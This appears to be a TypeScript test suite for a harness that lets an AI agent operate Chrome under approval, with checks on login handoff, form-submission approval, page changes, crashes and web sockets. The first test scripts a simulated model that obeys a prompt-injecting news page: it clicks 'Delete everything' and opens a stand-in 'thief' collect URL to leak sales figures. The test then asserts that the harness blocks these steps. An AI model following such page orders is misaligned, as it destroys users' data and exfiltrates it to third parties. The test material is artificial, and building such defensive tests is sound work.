/** Chrome, through the built command: Debian's Chromium, its driver in a sandbox, a dashboard with a login, a report, and a page full of orders. */
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { test, type TestContext } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { chromium } from 'playwright-core';
import {
  changingPages,
  click,
  heldAtAnotherPage,
  planFor,
  rigFor,
  said,
  uidOf,
  type Rig,
} from '../support/chromeRig.ts';
import type { Desk } from '../support/claudeDesk.ts';
import { callOf, finished } from '../support/connectors.ts';
import { inFiles, password, report } from '../support/dashboard.ts';
import { use } from '../support/messagesDouble.ts';

/** Signs in as a person would: in Chrome's own window, when it shows the form. */
async function signInByHand({ state, handedOver }: Rig): Promise<void> {
  await handedOver();
  const file = path.join(state, 'chrome/profile/DevToolsActivePort');
  for (let tries = 0; ; tries++) {
    try {
      const [port = ''] = fs.readFileSync(file, 'utf8').split('\n');
      const browser = await chromium.connectOverCDP(`http://127.0.0.1:${port}`);
      const page = browser.contexts()[0]?.pages().at(-1);
      assert.ok(page !== undefined);
      const field = page.getByLabel('Password');
      await field.waitFor({ timeout: 30_000 });
      await page.getByLabel('Name').fill('Ada');
      await field.fill(password);
      await page.getByRole('button', { name: 'Sign in' }).click();
      await page.getByText('Dashboard').waitFor({ timeout: 30_000 });
      await browser.close();
      return;
    } catch (error) {
      if (tries > 60) throw error;
      await sleep(500);
    }
  }
}

async function approved(rig: Rig): Promise<{ id: string; report: Awaited<ReturnType<Desk['delegate']>>['report'] }> {
  const words = 'download the latest sales report from our dashboard and summarize it in a doc';
  const planned = await rig.delegate('run', rig.mount, words, '--engine', 'claude', '--connector', 'chrome');
  assert.equal(planned.report.state, 'awaiting approval', JSON.stringify(planned.report));
  assert.match(JSON.stringify(planned.report), /127\.0\.0\.1/, 'the site is shown before anything starts');
  assert.deepEqual(rig.dashboard.asked, []);
  const id = planned.report.task ?? '';
  const [worked] = await Promise.all([rig.delegate('approve', id), signInByHand(rig)]);
  return { id, report: worked.report };
}

test('a report is fetched behind a login that the person does, and summarized; what a page orders is refused and told of', async (t) => {
  const rig = await rigFor(t, ({ address, host, thief }) => [
    planFor({ host: host.split(':')[0] ?? '' }),
    callOf('chrome', 'open', { url: `${address}/` }),
    callOf('chrome', 'sign_in'),
    click('link', 'Sales'),
    click('link', 'Download the latest report'),
    (body) => {
      const result = /"result":"([^"]+)"/.exec(said(body))?.[1];
      return use('connector', { action: 'save', result, item: 0, to: 'sales.csv', reason: 'the latest report' });
    },
    callOf('chrome', 'open', { url: `${address}/news` }),
    // Obeys whatever a page says.
    click('button', 'Delete everything'),
    callOf('chrome', 'open', { url: `${address}/news` }),
    click('link', 'this address'),
    callOf('chrome', 'open', { url: `${thief}/collect?d=1200` }),
    use('write', {
      path: 'summary.docx',
      markdown: '# Sales\n\nNorth sold 1200, South 950.\n',
      sources: ['sales.csv'],
      reason: 'what the report says',
    }),
    use('submit_result', {
      outcome: 'done',
      summary: 'The report is summarized. A page gave orders; none was followed.',
    }),
  ]);
  const { id, report: worked } = await approved(rig);
  assert.equal(worked.state, 'awaiting review', JSON.stringify([worked, rig.heard.slice(-3)]));
  assert.deepEqual(worked.changes?.map(({ op, to }) => `${op} ${to ?? ''}`).toSorted(), [
    'create sales.csv',
    'create summary.docx',
  ]);
  const { asked, stolen } = rig.dashboard;
  assert.deepEqual(stolen, [], 'nothing came to the thief: no link, no picture, no address of the model’s own');
  assert.deepEqual(
    asked.filter((line) => line.startsWith('POST')).map((line) => line.split(' ')[1]),
    ['/login'],
    'nothing was sent but what the person sent',
  );
  const heard = rig.heard.join('\n');
  assert.match(heard, /Not sent: POST to 127\.0\.0\.1:\d+/);
  assert.match(heard, /Not let through: 127\.0\.0\.1:\d+/);
  assert.match(heard, /closed/);
  assert.ok(!heard.includes(password), 'the model never sees the password');
  const audit = JSON.stringify((await rig.delegate('audit', id)).report);
  assert.match(audit, /POST: it would send something/);
  // To where each call of Chrome went.
  assert.match(audit, /on the page of (?:localhost|127\.0\.0\.1|dashboard[\w.]*):\d+/);
  assert.equal((await rig.delegate('apply', id)).status, 0);
  assert.equal(fs.readFileSync(path.join(rig.mount, 'sales.csv'), 'utf8'), report);
  assert.ok(fs.statSync(path.join(rig.mount, 'summary.docx')).size > 1_000);
  assert.equal((await rig.delegate('undo', id)).status, 0);
  assert.ok(!fs.existsSync(path.join(rig.mount, 'sales.csv')));
});

test('a form is sent after a yes that shows the page and what is sent, and only once', async (t) => {
  const rig = await rigFor(t, ({ address, host }) => [
    // The plan itself asks for it: that is no yes to a page that nobody has seen.
    planFor({
      host: host.split(':')[0] ?? '',
      more: [{ connector: 'chrome', tools: ['submit'], does: 'send', atMost: 1 }],
    }),
    callOf('chrome', 'open', { url: `${address}/order` }),
    callOf('chrome', 'sign_in'),
    callOf('chrome', 'open', { url: `${address}/order` }),
    (body) =>
      callOf('chrome', 'submit', {
        element: uidOf(body, 'button', 'Order now'),
        fields: [{ element: uidOf(body, 'textbox', 'Item'), value: 'Ten chairs' }],
      }),
    finished,
  ]);
  const { id, report: held } = await approved(rig);
  assert.equal(held.state, 'awaiting approval', JSON.stringify([held, rig.heard.slice(-2)]));
  const lines = (held.beyond ?? []).join('\n');
  assert.match(lines, /on the page http:\/\/127\.0\.0\.1:\d+\/order/);
  assert.match(lines, /with textbox “Item” = “Ten chairs”/);
  assert.match(lines, /by a click on button “Order now”/);
  const picture = /the page as it looks now: (.*\.png)/.exec(lines)?.[1] ?? '';
  assert.deepEqual([...fs.readFileSync(picture).subarray(1, 4)], [...Buffer.from('PNG')]);
  const posts = (): string[] => rig.dashboard.asked.filter((line) => line.startsWith('POST /order'));
  assert.deepEqual(posts(), []);
  const done = await rig.delegate('approve', id);
  assert.equal(done.report.state, 'done', JSON.stringify([done.report, rig.heard.slice(-2)]));

  assert.deepEqual(posts(), ['POST /order item=Ten+chairs']);
  assert.match(rig.heard.at(-1) ?? '', /\/order is done/);
});

test('a yes is for the page that was shown: one that became another is asked about anew, and gets nothing', async (t) => {
  const rig = await rigFor(t, (dashboard) =>
    changingPages(dashboard, [callOf('chrome', 'open', { url: `${dashboard.address}/` }), callOf('chrome', 'sign_in')]),
  );
  const { id, report: held } = await approved(rig);
  await heldAtAnotherPage(rig, id, held);
});

/** Chrome is closed under the task's feet, as a person may do. */
function killChrome(state: string): void {
  const owner = fs.readlinkSync(path.join(state, 'chrome/profile/SingletonLock'));
  process.kill(Number(owner.split('-').at(-1)), 'SIGKILL');
}

test('a Chrome that was closed meanwhile is opened again at its page, and the task goes on', async (t) => {
  let state = '';
  const rig = await rigFor(t, ({ address, host }) => [
    planFor({ host: host.split(':')[0] ?? '' }),
    callOf('chrome', 'open', { url: `${address}/sales` }),
    callOf('chrome', 'sign_in'),
    callOf('chrome', 'open', { url: `${address}/sales` }),
    async (body) => {
      const element = uidOf(body, 'link', 'Download the latest report');
      // Written down by then: who is signed in.
      await sleep(2_000);
      killChrome(state);
      await sleep(500);
      return callOf('chrome', 'click', { element });
    },
    finished,
  ]);
  ({ state } = rig);
  const { report: worked } = await approved(rig);
  assert.equal(worked.state, 'done', JSON.stringify([worked, rig.heard.slice(-2)]));
  assert.ok(rig.heard.some((text) => text.includes('sales.csv') || text.includes('Sign in')));
});

test('what drives Chrome and is not there pauses the task, and says how to get it', async (t) => {
  const rig = await rigFor(
    t,
    ({ address, host }) => [
      planFor({ host: host.split(':')[0] ?? '' }),
      callOf('chrome', 'open', { url: `${address}/` }),
    ],
    () => ({ driver: 'no-such-driver', driverArgs: [] }),
  );
  const words = 'download the latest sales report';
  const planned = await rig.delegate('run', rig.mount, words, '--engine', 'claude', '--connector', 'chrome');
  const { report: worked } = await rig.delegate('approve', planned.report.task ?? '');
  assert.equal(worked.state, 'paused', JSON.stringify(worked));
  assert.equal(worked.error?.code, 'connector-failed');
  assert.match(JSON.stringify(worked.error), /npm install -g chrome-devtools-mcp/);
  assert.deepEqual(rig.dashboard.asked, []);
});

/** Opens the page that tries every way to talk, after the person signed in. */
async function talked(t: TestContext, more: (host: string) => object): Promise<Rig> {
  const rig = await rigFor(
    t,
    ({ address, host }) => [
      planFor({ host: host.split(':')[0] ?? '' }),
      callOf('chrome', 'open', { url: `${address}/talk` }),
      callOf('chrome', 'sign_in'),
      callOf('chrome', 'open', { url: `${address}/talk` }),
      callOf('chrome', 'page'),
      callOf('chrome', 'open', { url: `${address}/account` }),
      click('link', 'Leave'),
      callOf('chrome', 'open', { url: `${address}/sales` }),
      click('link', 'As a PDF'),
      (body) => use('read', { path: `result:${/"result":"([^"]+)"/.exec(said(body))?.[1] ?? ''}/0` }),
      finished,
    ],
    more,
  );
  const { report: worked } = await approved(rig);
  assert.equal(worked.state, 'done', JSON.stringify([worked, rig.heard.slice(-3)]));
  return rig;
}

test('pages open web sockets to no host but those that the person named, and neither they nor their workers send; links that log out are held', async (t) => {
  const sent = ({ dashboard }: Rig): string[] =>
    dashboard.asked.filter((line) => !line.startsWith('GET') && !line.startsWith('POST /login'));
  const quiet = await talked(t, () => ({}));
  assert.deepEqual(sent(quiet), []);
  assert.ok(!quiet.dashboard.asked.includes('GET /logout'));
  assert.match(quiet.heard.join('\n'), /reads as if it changed something/);
  assert.ok(quiet.heard.join('\n').includes(inFiles.pdf), 'a PDF that Chrome would show is downloaded, and read');
  const open = await talked(t, (host) => ({ webSockets: [host] }));
  assert.ok(sent(open).includes('SOCKET /socket'), sent(open).join(', '));
  assert.ok(
    sent(open).every((line) => line.startsWith('SOCKET')),
    sent(open).join(', '),
  );
});
